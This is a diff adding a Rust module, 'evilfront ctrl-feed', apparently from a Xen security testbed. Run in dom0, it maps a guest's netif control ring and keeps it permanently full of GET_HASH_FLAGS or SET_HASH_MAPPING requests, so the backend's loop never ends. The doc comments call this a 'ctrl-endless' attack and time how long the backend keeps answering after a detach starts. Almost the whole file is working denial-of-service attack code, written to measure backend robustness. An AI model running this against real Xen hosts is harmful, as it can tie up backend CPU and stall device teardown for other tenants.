@@ -1,0 +1,205 @@
+//! `evilfront ctrl-feed`: run in dom0 (not in a guest), it keeps a guest's control ring full
+//! for the ctrl-endless attacks. A feeder inside the 1-vCPU guest pauses whenever Xen or the
+//! guest's kernel runs something else, for longer than a backend needs to drain a ring, so
+//! any backend's loop ends at such a pause; dom0 has 2 vCPUs and this feeder can be pinned to
+//! the one the backend's work is not on (and run SCHED_FIFO: testbed/scenarios/hostile.sh).
+//!
+//! It maps the guest's ring page through /dev/xen/gntdev (`ctrl-ring-ref` is granted to dom0,
+//! writable, because dom0 is the backend) and republishes `req_prod = rsp_prod + ring size`
+//! whenever the backend's `rsp_prod` moves: never more than a ring ahead of the backend's
+//! consumer, so no "impossible requests" check trips. The answered slots get fresh requests
+//! first. It never notifies: a feeder in dom0 cannot signal the guest's end of the channel;
+//! the guest kicks when `req_event` asks for it, and a backend loop that re-reads `req_prod`
+//! before going idle keeps going on its own.
+//!
+//! usage: evilfront ctrl-feed --domid D --gref G [--mapping-gref G2] [--seconds S]
+//!                            [--stop-file F] [--mark-file F] [--pause-every-us N --pause-us M]
+//! `--mapping-gref`: every request is a SET_HASH_MAPPING of 128 entries from that page (a
+//! grant copy each) instead of GET_HASH_FLAGS. Ends after `--seconds` (default 150) or when
+//! the stop file exists. When the mark file appears (dom0 creates it as the detach starts)
+//! the feeder notes the count answered so far and from then on how long the backend keeps
+//! answering. `--pause-us`: sleep that long every `--pause-every-us` of feeding, so a
+//! SCHED_FIFO feeder leaves its CPU's other tasks a little time.
+//! Prints `FEED t=.. answered=..` once a second and one `FEED-RESULT key=value ...` line.
+
+use crate::attacks::Report;
+use crate::front::ctrl_slot;
+use crate::xen_dev::{Gntdev, GrantedPage};
+use netif::wire::{
+    CtrlRequest, SRING_REQ_PROD_OFFSET, SRING_RSP_PROD_OFFSET, XEN_NETIF_CTRL_RING_SIZE,
+    XEN_NETIF_CTRL_TYPE_GET_HASH_FLAGS, XEN_NETIF_CTRL_TYPE_SET_HASH_MAPPING,
+};
+use std::path::Path;
+use std::sync::atomic::Ordering;
+use std::thread::sleep;
+use std::time::{Duration, Instant};
+
+struct FeedArgs {
+    domid: u16,
+    gref: u32,
+    mapping_gref: Option<u32>,
+    seconds: u64,
+    stop_file: String,
+    mark_file: String,
+    pause_every_us: u64,
+    pause_us: u64,
+}
+
+/// The longest loop iteration that still counts as feeding without a pause.
+const GAP_US: u128 = 100;
+/// Entries of the hash mapping each SET_HASH_MAPPING request sets (the backend's maximum).
+const MAPPING_ENTRIES: u32 = 128;
+
+fn parse(args: &[String]) -> Result<FeedArgs, String> {
+    let mut a = FeedArgs {
+        domid: 0,
+        gref: 0,
+        mapping_gref: None,
+        seconds: 150,
+        stop_file: "/tmp/ctrl-feed.stop".into(),
+        mark_file: "/tmp/ctrl-feed.mark".into(),
+        pause_every_us: 0,
+        pause_us: 0,
+    };
+    let (mut domid, mut gref) = (None, None);
+    let mut it = args.iter();
+    while let Some(k) = it.next() {
+        let v = it.next().ok_or(format!("{k} needs a value"))?;
+        let num = |v: &str| v.parse::<u64>().map_err(|_| format!("{k}: not a number: {v}"));
+        match k.as_str() {
+            "--domid" => domid = Some(u16::try_from(num(v)?).map_err(|_| format!("--domid {v}: too large"))?),
+            "--gref" => gref = Some(num(v)? as u32),
+            "--mapping-gref" => a.mapping_gref = Some(num(v)? as u32),
+            "--seconds" => a.seconds = num(v)?,
+            "--stop-file" => a.stop_file = v.clone(),
+            "--mark-file" => a.mark_file = v.clone(),
+            "--pause-every-us" => a.pause_every_us = num(v)?,
+            "--pause-us" => a.pause_us = num(v)?,
+            _ => return Err(format!("unknown option {k}")),
+        }
+    }
+    a.domid = domid.ok_or("--domid is required")?;
+    a.gref = gref.ok_or("--gref is required")?;
+    Ok(a)
+}
+
+/// Runs the feeder; `args` are the words after `ctrl-feed`. Returns the process exit code.
+pub fn main(args: &[String]) -> i32 {
+    let a = match parse(args) {
+        Ok(a) => a,
+        Err(e) => {
+            eprintln!("evilfront ctrl-feed: {e}");
+            return 2;
+        }
+    };
+    let mut r = Report::new("ctrl-feed");
+    let mapped = Gntdev::open().map_err(|e| format!("open /dev/xen/gntdev: {e}")).and_then(|dev| {
+        dev.map(a.domid, a.gref).map(|page| (dev, page)).map_err(|e| format!("map gref {}: {e}", a.gref))
+    });
+    match mapped {
+        Err(e) => r.set("error", e),
+        Ok((dev, page)) => {
+            feed(&page, &a, &mut r);
+            dev.unmap(page);
+        }
+    }
+    println!("{}", r.line().replacen("EVIL-RESULT", "FEED-RESULT", 1));
+    0
+}
+
+fn feed(page: &GrantedPage, a: &FeedArgs, r: &mut Report) {
+    let req = |idx: u32| match a.mapping_gref {
+        None => CtrlRequest { id: idx as u16, kind: XEN_NETIF_CTRL_TYPE_GET_HASH_FLAGS, data: [0; 3] },
+        Some(g) => {
+            CtrlRequest { id: idx as u16, kind: XEN_NETIF_CTRL_TYPE_SET_HASH_MAPPING, data: [g, MAPPING_ENTRIES, 0] }
+        }
+    };
+    let req_prod_word = page.word(SRING_REQ_PROD_OFFSET);
+    let rsp_prod_word = page.word(SRING_RSP_PROD_OFFSET);
+    let mut req_prod = req_prod_word.load(Ordering::SeqCst);
+    let mut last_rsp = rsp_prod_word.load(Ordering::SeqCst);
+    if req_prod.wrapping_sub(last_rsp) > XEN_NETIF_CTRL_RING_SIZE {
+        r.set("error", format!("ring indices out of order: req_prod {req_prod} rsp_prod {last_rsp}"));
+        return;
+    }
+    let _ = std::fs::remove_file(&a.stop_file);
+    let _ = std::fs::remove_file(&a.mark_file);
+    println!("FEED start req_prod={req_prod} rsp_prod={last_rsp}");
+    let t0 = Instant::now();
+    let (mut answered, mut caught_up, mut gaps, mut max_gap_us, mut pauses) = (0u64, 0u64, 0u64, 0u128, 0u64);
+    // (time the mark appeared, answered then), and the last time rsp_prod moved.
+    let mut mark: Option<(Instant, u64)> = None;
+    let mut last_progress = t0;
+    let (mut prev, mut last_check, mut last_report, mut last_pause) = (t0, t0, t0, t0);
+    loop {
+        let now = Instant::now();
+        let gap = now.duration_since(prev).as_micros();
+        prev = now;
+        max_gap_us = max_gap_us.max(gap);
+        if gap > GAP_US {
+            gaps += 1;
+        }
+        let rsp = rsp_prod_word.load(Ordering::SeqCst);
+        if rsp != last_rsp {
+            answered += u64::from(rsp.wrapping_sub(last_rsp));
+            last_rsp = rsp;
+            last_progress = now;
+        }
+        if rsp == req_prod {
+            caught_up += 1;
+        }
+        let target = rsp.wrapping_add(XEN_NETIF_CTRL_RING_SIZE);
+        let ahead = target.wrapping_sub(req_prod);
+        if ahead != 0 && ahead <= XEN_NETIF_CTRL_RING_SIZE {
+            // The answered slots are free again: fresh requests there, then publish.
+            let mut i = req_prod;
+            while i != target {
+                page.write_obj(ctrl_slot(i), req(i));
+                i = i.wrapping_add(1);
+            }
+            req_prod = target;
+            req_prod_word.store(req_prod, Ordering::SeqCst);
+        }
+        if now.duration_since(last_check) >= Duration::from_millis(10) {
+            last_check = now;
+            if now.duration_since(t0) >= Duration::from_secs(a.seconds) || Path::new(&a.stop_file).exists() {
+                break;
+            }
+            if mark.is_none() && Path::new(&a.mark_file).exists() {
+                mark = Some((now, answered));
+                println!("FEED t={:.1} mark answered={answered}", now.duration_since(t0).as_secs_f64());
+            }
+        }
+        if now.duration_since(last_report) >= Duration::from_secs(1) {
+            last_report = now;
+            println!(
+                "FEED t={:.1} answered={answered} caught_up={caught_up} gaps={gaps}",
+                now.duration_since(t0).as_secs_f64()
+            );
+        }
+        if a.pause_us > 0 && now.duration_since(last_pause) >= Duration::from_micros(a.pause_every_us) {
+            sleep(Duration::from_micros(a.pause_us));
+            pauses += 1;
+            last_pause = Instant::now();
+            prev = last_pause;
+        }
+    }
+    let end = Instant::now();
+    r.set("answered", answered);
+    r.set("caught_up", caught_up);
+    r.set("gaps_over_100us", gaps);
+    r.set("max_gap_us", max_gap_us);
+    r.set("pauses", pauses);
+    r.set("seconds", format!("{:.1}", end.duration_since(t0).as_secs_f64()));
+    r.set("last_progress_s", format!("{:.1}", last_progress.duration_since(t0).as_secs_f64()));
+    match mark {
+        Some((at, n)) => {
+            r.set("answered_after_mark", answered - n);
+            // How long the backend kept answering once the detach had started.
+            let busy = last_progress.checked_duration_since(at).unwrap_or_default();
+            r.set("answering_after_mark_s", format!("{:.1}", busy.as_secs_f64()));
+            r.set("mark_to_end_s", format!("{:.1}", end.duration_since(at).as_secs_f64()));
+        }
+        None => r.set("answered_after_mark", "none"),
+    }
+}
